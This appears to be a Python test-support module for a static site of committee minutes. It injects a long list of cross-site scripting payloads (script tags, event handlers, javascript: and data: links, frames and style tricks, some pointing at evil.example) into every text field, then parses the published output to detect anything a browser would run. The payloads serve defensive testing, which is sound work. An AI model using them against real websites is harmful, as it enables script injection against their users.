"""Hostile text for every text field, and a parser-based check of what a browser would run.

Every payload that tries to run script carries the marker ``xss`` in the part that
would run, so a finding names the payload that got through. ``INERT`` payloads
only look hostile: Markdown shows them as text, and the site must publish them so.
"""

from __future__ import annotations

import datetime as dt
import gzip
import html
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from xml.etree.ElementTree import Element

import html5lib
from defusedxml import ElementTree
from pydantic import BaseModel

from generator.load import Content, MeetingFile
from generator.schema import (
    Committee,
    GlossaryTerm,
    Meeting,
    PersonRecord,
    Topic,
    action_ids,
    meeting_slug,
)

HOSTILE: list[str] = [
    # script elements, in any case and in any wrapping
    "<script>alert('xss')</script>",
    "<SCRIPT>alert('xss')</SCRIPT>",
    "<ScRiPt src=https://evil.example/xss.js></ScRiPt>",
    "<script/src=//evil.example/xss.js></script>",
    "<<script>alert('xss');//<</script>",
    "<svg><script>alert('xss')</script></svg>",
    "<math><mtext><script>alert('xss')</script></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss')>\"></noscript>",
    "<!--<script>--><script>alert('xss')</script>",
    "<template><script>alert('xss')</script></template>",
    # event handlers
    "<img src=x onerror=alert('xss')>",
    "<IMG SRC=x OnErRoR=alert('xss')>",
    "<svg onload=alert('xss')>",
    "<body onload=alert('xss')>",
    "<details open ontoggle=alert('xss')>",
    "<input autofocus onfocus=alert('xss')>",
    "<video><source onerror=alert('xss')></video>",
    "<marquee onstart=alert('xss')>",
    "<p onmouseover=\"alert('xss')\">hover</p>",
    '<a href="https://example.org" onclick="alert(\'xss\')">link</a>',
    "<div/onclick=alert('xss')>x</div>",
    "<img src=x onerror=&#97;lert('xss')>",
    # javascript:, vbscript: and data: addresses, raw and in Markdown
    "<a href=\"javascript:alert('xss')\">x</a>",
    "<a href=\"JaVaScRiPt:alert('xss')\">x</a>",
    "<a href=\" javascript:alert('xss')\">x</a>",
    "<a href=\"java\tscript:alert('xss')\">x</a>",
    "<a href=\"&#106;avascript:alert('xss')\">x</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;script:alert('xss')\">x</a>",
    "<a href=\"javascript&colon;alert('xss')\">x</a>",
    "<a href=\"vbscript:msgbox('xss')\">x</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzJyk8L3NjcmlwdD4=">xss</a>',
    "[click](javascript:alert('xss'))",
    "[click](JAVASCRIPT:alert('xss'))",
    "[click](&#106;avascript:alert('xss'))",
    "[click](vbscript:msgbox('xss'))",
    "[click](data:text/html,<script>alert('xss')</script>)",
    "[click][bad]\n\n[bad]: javascript:alert('xss')",
    "<javascript:alert('xss')>",
    "![image](javascript:alert('xss'))",
    "![image](data:image/svg+xml,<svg onload=alert('xss')>)",
    "<img src=\"javascript:alert('xss')\">",
    "<form action=\"javascript:alert('xss')\"><button>go</button></form>",
    "<button formaction=\"javascript:alert('xss')\">go</button>",
    # frames, objects and other loaders
    '<iframe src="https://evil.example/xss"></iframe>',
    "<iframe srcdoc=\"<script>alert('xss')</script>\"></iframe>",
    '<object data="https://evil.example/xss.swf"></object>',
    '<embed src="https://evil.example/xss.swf">',
    '<base href="https://evil.example/xss/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/xss">',
    '<link rel="stylesheet" href="https://evil.example/xss.css">',
    # style injection
    "<style>body { background: url('https://evil.example/xss') }</style>",
    "<p style=\"background:url('https://evil.example/xss')\">styled</p>",
    "<div style=\"width: expression(alert('xss'))\">x</div>",
    # Markdown extensions: attribute lists, abbreviations, tables, titles
    "A paragraph\n{: onclick=\"alert('xss')\" }",
    "[link](https://example.org){: onmouseover=\"alert('xss')\" }",
    "# Heading {: onmouseover=\"alert('xss')\" }",
    "*[HTML]: <script>alert('xss')</script>\n\nHTML",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert('xss')> | [x](javascript:alert('xss')) |",
    '[x](https://example.org "title\\" onmouseover=alert(\'xss\') x=\\"")',
    "Title </h2><script>alert('xss')</script><h2>",
    "\">'><script>alert('xss')</script>",
    "Name\n\n<script>alert('xss')</script>",
    "</textarea><script>alert('xss')</script>",
    '<xss style="behavior: url(xss.htc)">',
]

# Neither HTML nor Markdown makes anything of these (an autolink only takes web
# addresses; a link title's quotes are escaped); they stay in case that changes.
DEFUSED_BY_MARKDOWN = frozenset(
    {
        "<javascript:alert('xss')>",
        '[x](https://example.org "title\\" onmouseover=alert(\'xss\') x=\\"")',
    }
)

# Look hostile, but Markdown shows them as text: they must be published as text.
INERT: list[str] = [
    "&lt;script&gt;alert('xss')&lt;/script&gt;",
    "`<script>alert('xss')</script>`",
    "Links such as javascript:alert('xss') are plain text here",
]

# Fields of the records that hold free text (the rest are ids, dates and numbers,
# which the schema checks by pattern).
TEXT_FIELDS = frozenset(
    {
        "title",
        "agenda_text",
        "text",
        "resolutions",
        "what",
        "name",
        "role",
        "organisation",
        "substituting_for",
        "interest",
        "venue",
        "phone",
        "note",
        "public_summary",
        "short_name",
        "description",
        "summary",
        "aliases",
        "expansion",
        "variants",
        "term",
    }
)
# Addresses: checked by the schema as addresses, so hostile text there is refused too.
ADDRESS_FIELDS = frozenset({"email", "url"})

_SCRIPT_SCHEMES = ("javascript", "vbscript", "data")
_ADDRESS_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "poster", "background", "cite")
_LOADERS = ("iframe", "frame", "frameset", "object", "embed", "applet", "base", "portal")
MARKER = "xss"
_SLUG_ADDRESS = re.compile(r"https?://[\w.:-]+/(?:[a-z0-9-]+/)*")


def _own_address(name: str, attributes: dict[str, str]) -> bool:
    """A canonical link to a page of the site at a slug address: nothing it names can run or load."""
    return (
        name == "link"
        and attributes.get("rel") == "canonical"
        and set(attributes) == {"rel", "href"}
        and bool(_SLUG_ADDRESS.fullmatch(attributes["href"]))
    )


def _scheme(address: str) -> str:
    """The scheme a browser reads in an address, as the URL standard parses it."""
    # Leading and trailing controls and spaces are dropped, tabs and newlines anywhere.
    compact = "".join(c for c in address.strip("".join(map(chr, range(33)))) if c not in "\t\n\r").lower()
    head, colon, _ = compact.partition(":")
    return head if colon and re.fullmatch(r"[a-z][a-z0-9+.-]*", head) else ""


def dangers(markup: str) -> list[str]:
    """What in an HTML document or fragment would run script, load a frame, or restyle the page.

    html5lib parses as a browser does with scripting on (so a ``<noscript>`` that a
    simpler parser reads as markup is read as the browser reads it).
    """
    found = []
    document = html5lib.parse(markup, treebuilder="etree", namespaceHTMLElements=False, scripting=True)
    for element in document.iter():
        if not isinstance(element.tag, str):
            continue  # comments
        name = element.tag.rpartition("}")[2].lower()
        shown = f"<{name} {dict(element.attrib)}>{(element.text or '')[:80]}"
        if name == "script" and element.get("type") in ("application/json", "application/ld+json"):
            # Data, not script: it must not be able to end its element early.
            if "<" in (element.text or ""):
                found.append(f"markup in a data block: {shown}")
        elif name == "script" and MARKER in ((element.text or "") + element.get("src", "")).lower():
            found.append(f"script element: {shown}")
        if name in _LOADERS:
            found.append(f"{name} element: {shown}")
        if name == "meta" and element.get("http-equiv", "").lower() == "refresh":
            found.append(f"meta refresh: {shown}")
        # A page's own canonical address may hold the marker in its slug (a person's page is named
        # after their name), but a slug is lower-case letters, digits and hyphens: it can load nothing.
        if (
            name in ("style", "link")
            and MARKER in ((element.text or "") + str(element.attrib)).lower()
            and not _own_address(name, element.attrib)
        ):
            found.append(f"{name} element: {shown}")
        for qualified, value in element.attrib.items():
            attribute = qualified.rpartition("}")[2].lower()
            if attribute.startswith("on"):
                found.append(f"{attribute} handler on <{name}>")
            elif attribute in _ADDRESS_ATTRIBUTES and _scheme(value) in _SCRIPT_SCHEMES:
                found.append(f"{_scheme(value)}: address in <{name} {attribute}>")
            elif attribute in ("style", "srcdoc") and MARKER in value.lower():
                found.append(f"{attribute} attribute on <{name}>: {value}")
    return found


def poison(model: Any, payload: str) -> Any:
    """A copy of a record with ``payload`` in every free-text field, at any depth, unvalidated."""
    if isinstance(model, list):
        return [poison(value, payload) for value in model]
    if not isinstance(model, BaseModel):
        return model
    update: dict[str, Any] = {}
    for name in type(model).model_fields:
        value = getattr(model, name)
        if name in TEXT_FIELDS and isinstance(value, str):
            update[name] = payload
        elif name in TEXT_FIELDS and isinstance(value, list) and all(isinstance(v, str) for v in value):
            update[name] = [payload for _ in value]
        elif isinstance(value, BaseModel | list):
            update[name] = poison(value, payload)
    return model.model_copy(update=update)


def full_meeting(index: int, committee: str, topic: str, earlier: Meeting | None) -> dict[str, Any]:
    """A meeting record with every field filled, as an editor would write it."""
    day = dt.date(2019, 1, 1) + dt.timedelta(days=7 * index)
    person = {"name": f"Person {index}", "role": "Role", "organisation": "Organisation"}
    item: dict[str, Any] = {
        "number": "1",
        "title": "An item",
        "agenda_text": "The agenda said this.",
        "text": f"The minutes of the item, naming TERM{index}.\n\nA second paragraph.",
        "resolutions": ["RESOLVED that the report be noted."],
        "actions": [{"what": "write the report", "who": {"name": "Owner", "role": "Role"}, "due": str(day)}],
        "documents": [{"title": "A report", "url": "https://example.org/report.pdf"}],
        "topics": [topic],
        "truncated": True,
    }
    updates: dict[str, Any] = {"title": "Matters arising", "text": "Reported."}
    if earlier is not None:
        item["approves_minutes_of"] = {"date": str(earlier.date), "committee": earlier.committee}
        updates["matters_arising_from"] = {"date": str(earlier.date), "committee": earlier.committee}
        first_action = next(iter(action_ids(earlier).values()))
        updates["action_updates"] = [{"action": first_action, "status": "done", "note": "Done."}]
    return {
        "committee": committee,
        "date": str(day),
        "start_time": "10:00",
        "venue": "The venue",
        "contact": {"name": "Contact", "phone": "020 0000 0000", "email": "contact@example.org"},
        "status": "draft",
        "chairs": [person],
        "attendance": {
            "present": [person],
            "apologies": ["Apologising Person"],
            "substitutes": [{**person, "name": "Substitute", "substituting_for": "Someone"}],
        },
        "declarations": [{"name": f"Person {index}", "interest": "An interest.", "item": "1"}],
        "items": [
            item,
            updates,
            {
                "number": "3",
                "title": "A private item",
                "private_under": "3",
                "public_summary": "What was made public.",
                "resolutions": ["RESOLVED that the contract be awarded."],
            },
        ],
        "next_meeting": {"date": str(day + dt.timedelta(days=90)), "time": "18:30", "venue": "The next venue"},
    }


def poisoned_content(payloads: list[str]) -> Content:
    """An archive with one committee, topic, term, person and meeting per payload, each full of it."""
    content = Content()
    earlier: Meeting | None = None
    for index, payload in enumerate(payloads):
        committee = Committee(id=f"c{index}", name="Committee", short_name="C", description="A committee.")
        topic = Topic(id=f"t{index}", title="Topic", summary="A topic.", aliases=["Topic alias"])
        meeting = Meeting.model_validate(full_meeting(index, committee.id, topic.id, earlier))
        earlier = meeting
        content.committees.append(poison(committee, payload))
        content.topics.append(poison(topic, payload))
        content.glossary.append(poison(GlossaryTerm(term=f"TERM{index}", expansion="A term."), payload))
        content.people.append(poison(PersonRecord(name=f"Person {index}", variants=["P. Person"]), payload))
        source = f"content/meetings/{meeting_slug(meeting)}.yml"
        content.meetings.append(MeetingFile(poison(meeting, payload), source))
    return content


def published_texts(site: Path) -> Iterator[tuple[str, str, str]]:
    """Every published file as (path, kind, text): pages, feeds, calendars, sitemap, data, search index."""
    for path in sorted(p for p in site.rglob("*") if p.is_file()):
        relative = path.relative_to(site).as_posix()
        data = path.read_bytes()
        if path.suffix == ".gz" or path.suffix == ".pf_fragment" or data[:2] == b"\x1f\x8b":
            data = gzip.decompress(data)
        if relative.startswith("pagefind/") and "/fragment/" in relative:
            # Pagefind's fragments: a signature, then JSON with each result's text and fields.
            fragment = json.loads(data[data.index(b"{") :])
            for text in _strings(fragment):
                yield relative, "html", text
            continue
        try:
            text = data.decode("utf-8")
        except UnicodeDecodeError:
            continue  # the search index's binary parts and images: no text to run
        if path.suffix == ".html":
            yield relative, "html", text
        elif path.suffix == ".xml":
            for element in _elements(text):
                yield relative, "html", element
        elif path.suffix in (".ics", ".csv", ".json", ".js", ".css", ".txt"):
            yield relative, path.suffix[1:], text


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def _elements(xml: str) -> Iterator[str]:
    """Each text and attribute of an XML file (feeds, sitemap), to be read as a feed reader might: as HTML."""
    root: Element = ElementTree.fromstring(xml)
    for element in root.iter():
        if element.text and element.text.strip():
            yield element.text
        for name, value in element.attrib.items():
            yield f'<a href="{html.escape(value)}"></a>' if name == "href" else value
